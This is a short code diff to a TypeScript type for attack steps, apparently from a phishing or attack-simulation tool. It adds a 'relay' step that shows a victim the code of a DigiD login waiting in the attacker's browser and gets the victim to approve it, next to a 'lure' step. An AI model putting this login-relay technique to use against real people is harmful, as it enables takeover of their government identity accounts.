@@ -89,6 +89,8 @@ export type Step =
       readonly form?: Readonly<Record<string, Value>>;
       readonly proof: Proof;
     }
+  /** Shows the victim the code of a DigiD login that waits in the own browser, and has it approved. */
+  | { readonly do: "relay"; readonly target: Target }
   /** Makes the victim open an address. */
   | { readonly do: "lure"; readonly target: Target };
 
